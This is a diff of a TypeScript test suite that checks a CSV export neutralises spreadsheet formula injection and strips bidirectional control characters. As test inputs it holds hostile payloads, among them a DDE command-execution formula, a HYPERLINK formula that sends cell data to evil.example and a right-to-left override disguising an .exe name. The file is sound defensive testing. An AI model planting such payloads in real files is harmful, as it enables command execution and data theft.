@@ -5,7 +5,16 @@ import type { BriefInput } from '../brief/model'
 import type { Article, Assessment } from '../model'
 import { CREDIBILITY_LABELS, RELIABILITY_LABELS } from '../scales'
 import { normaliseText } from '../text'
-import { ASSESSMENT_CSV_COLUMNS, assessmentsCsv, assessmentsCsvFileName, csvField } from './csv'
+import {
+  ASSESSMENT_CSV_COLUMNS,
+  ASSESSMENT_CSV_FREE_TEXT,
+  assessmentsCsv,
+  assessmentsCsvFileName,
+  csvField,
+  freeTextCell,
+  isFormula,
+  type AssessmentCsvColumn
+} from './csv'
 
 const SAMPLE = normaliseText(
   readFileSync(new URL('../../../resources/samples/dprk-kursk.txt', import.meta.url), 'utf8')
@@ -215,9 +224,21 @@ describe('assessmentsCsv against formula injection', () => {
     origin: { kind: 'paste', sha256: '0'.repeat(64) }
   }
   const sentences = segmentSample('hostile', hostileText)
-  const notes = ['=1+1', '+1', '-2', '@SUM(1,2)', '\tindented', '\rcarriage']
+  const notes = [
+    '=1+1',
+    '-2+3',
+    '-SUM(A1:A9)',
+    '@SUM(1,2)',
+    '\tindented',
+    '\rcarriage',
+    '-12 km',
+    '+1',
+    '-12 km north-west of Sudzha.',
+    '- not confirmed',
+    '\u202e=1+1'
+  ]
   const assessments: Assessment[] = notes.map((note, i) => ({
-    sentenceId: sentences[i].id,
+    sentenceId: sentences[i % sentences.length].id,
     articleId: 'hostile',
     attributions: [{ sourceId: 'src-cnn', role: 'reported' }],
     credibility: 3,
@@ -231,35 +252,108 @@ describe('assessmentsCsv against formula injection', () => {
   const hostile: BriefInput = {
     title: 'Hostile',
     generatedAt: '2026-11-26T09:00:00.000Z',
-    articles: [{ article, sentences, assessments, links: [] }],
+    articles: [{ article, sentences, assessments: assessments.slice(0, sentences.length), links: [] }],
     sources
   }
   const out = assessmentsCsv(hostile)
-  const parsed = parseCsv(out.replace(/^\uFEFF/, ''))
+  const t = table(out)
 
-  it('prefixes every cell a spreadsheet would run as a formula with an apostrophe', () => {
-    const cells = parsed.flat()
-    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
-    const t = table(out)
-    expect(t.map((r) => r.text).slice(0, 4)).toEqual(
-      hostileText
-        .split('\n')
-        .slice(0, 4)
-        .map((line) => `'${line}`)
-    )
-    expect(t.map((r) => r.note)).toEqual(notes.map((n) => `'${n}`))
+  it('prefixes free text a spreadsheet would run as a formula with an apostrophe', () => {
+    expect(t.map((r) => r.text).slice(0, 4)).toEqual([
+      `'${hostileText.split('\n')[0]}`,
+      '+1 soldiers were reported.',
+      '-2 is the count the ministry gave.',
+      "'@SUM(A1:A9) is not a sentence."
+    ])
     expect(t[0].article_title).toBe("'=cmd|' /C calc'!A0")
     expect(t[0].tags).toBe("'-tag")
   })
 
-  it('still quotes a neutralised formula that holds quotes and commas', () => {
-    expect(out).toContain('"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Click for the map"")"')
+  it('neutralises formulas and leaves a signed quantity such as -12 km as the analyst wrote it', () => {
+    const cells = notes.map((note) => freeTextCell(note))
+    expect(cells).toEqual([
+      "'=1+1",
+      "'-2+3",
+      "'-SUM(A1:A9)",
+      "'@SUM(1,2)",
+      "'\tindented",
+      "'\rcarriage",
+      '-12 km',
+      '+1',
+      '-12 km north-west of Sudzha.',
+      "'- not confirmed",
+      "'=1+1"
+    ])
+    expect(t.map((r) => r.note)).toEqual(cells.slice(0, sentences.length))
+    for (const quantity of ['-5', '+3.5', '-12%', '-1,200 troops', '+7 km; 3 km']) {
+      expect(isFormula(quantity), quantity).toBe(false)
+    }
+    for (const formula of ['-12 km =HYPERLINK("x")', '-1 (2)', '+1|cmd', '-A1', '-2 -3', '-12 %', '+"x"']) {
+      expect(isFormula(formula), formula).toBe(true)
+    }
   })
 
-  it('neutralises a leading tab and carriage return too', () => {
-    expect(csvField('\t=1')).toBe("'\t=1")
-    expect(csvField('\r=1')).toBe('"\'\r=1"')
+  it('still quotes a neutralised formula that holds quotes and commas', () => {
+    expect(out).toContain('"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Click for the map"")"')
+    expect(csvField("'\r=1")).toBe('"\'\r=1"')
     expect(csvField('a=1')).toBe('a=1')
+  })
+
+  it('writes controlled columns as they are: a rating without a source stays -5, sortable', () => {
+    const unsourced = kurskBrief(SAMPLE)
+    const a = unsourced.articles[0].assessments.find((x) => x.sentenceId === 'dprk:1')!
+    a.attributions = []
+    a.credibility = 5
+    const row = table(assessmentsCsv(unsourced)).find((r) => r.sentence_id === 'dprk:1')!
+    expect(row).toMatchObject({ rating: '-5', credibility: '5', source: '', reliability: '' })
+    for (const r of rows) {
+      for (const column of ASSESSMENT_CSV_COLUMNS.filter((c) => !ASSESSMENT_CSV_FREE_TEXT[c])) {
+        expect(r[column], column).not.toMatch(/^'/)
+      }
+    }
+  })
+
+  it('neutralises an id a crafted backup could carry, though ids are controlled', () => {
+    const crafted = kurskBrief(SAMPLE)
+    crafted.articles[0].article = { ...crafted.articles[0].article, id: '=1+1' }
+    expect(table(assessmentsCsv(crafted))[0].article_id).toBe("'=1+1")
+  })
+
+  it('removes bidirectional controls from free text, so a note reads in the order it was written', () => {
+    const spoofed = kurskBrief(SAMPLE)
+    const a = spoofed.articles[0].assessments.find((x) => x.sentenceId === 'dprk:1')!
+    a.note = 'Losses: 12 \u200f34 \u200f56, file \u202egpj.exe'
+    const row = table(assessmentsCsv(spoofed)).find((r) => r.sentence_id === 'dprk:1')!
+    expect(row.note).toBe('Losses: 12 34 56, file gpj.exe')
+  })
+})
+
+describe('the CSV columns in the README', () => {
+  const readme = readFileSync(new URL('../../../README.md', import.meta.url), 'utf8')
+  const data = readme.slice(
+    readme.indexOf('\n## Your data\n'),
+    readme.indexOf('\n## ', readme.indexOf('\n## Your data\n') + 1)
+  )
+  /** The rows of the table whose first header cell is `column`: name, meaning, values. */
+  const documented = data
+    .split('\n')
+    .filter((line) => /^\| `[a-z_]+` +\|/.test(line))
+    .map((line) =>
+      line
+        .split('|')
+        .map((cell) => cell.trim())
+        .slice(1, -1)
+    )
+
+  it('documents every column of the CSV, in the order of its header', () => {
+    expect(documented.map(([name]) => name.replace(/`/g, ''))).toEqual([...ASSESSMENT_CSV_COLUMNS])
+  })
+
+  it('says which columns are free text, as the export treats them', () => {
+    for (const [name, , values] of documented) {
+      const column = name.replace(/`/g, '') as AssessmentCsvColumn
+      expect(values.startsWith('free text'), name).toBe(ASSESSMENT_CSV_FREE_TEXT[column])
+    }
   })
 })
 
